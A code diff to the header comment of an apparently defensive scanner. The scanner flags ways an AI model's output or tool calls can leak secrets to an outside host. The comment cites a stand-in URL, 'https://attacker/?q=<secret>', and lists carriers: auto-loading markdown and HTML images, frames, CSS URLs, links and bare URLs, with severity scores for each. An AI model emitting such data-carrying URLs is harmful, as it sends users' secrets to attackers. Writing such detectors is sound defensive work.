@@ -5,9 +5,12 @@
 // https://attacker/?q=<secret> without a click.
 //
 // Category "exfiltration"; subtypes markdown_image, markdown_link, markdown_reference,
-// html_image, html_frame, html_link, html_resource, css_url. Severity:
+// html_image, html_frame, html_link, html_resource, css_url, and bare_url (any http(s) URL,
+// only in tool_call: a tool fetches without a click). Severity in output roles:
 //   auto-loading (image, frame, resource, CSS, image reference)   6, and 7 if the URL carries data
 //   click-to-follow (links, autolinks, link references)             2, and 4 if the URL carries data
+//   bare_url                                                        2, and 6 if the URL carries data
+// In document and tool_result (inputs, where web pages are full of images) 3/6 and 1/3.
 // Relative URLs and other schemes (mailto:, data:) are same-origin or inert: never reported.
 //
 // Parameters:
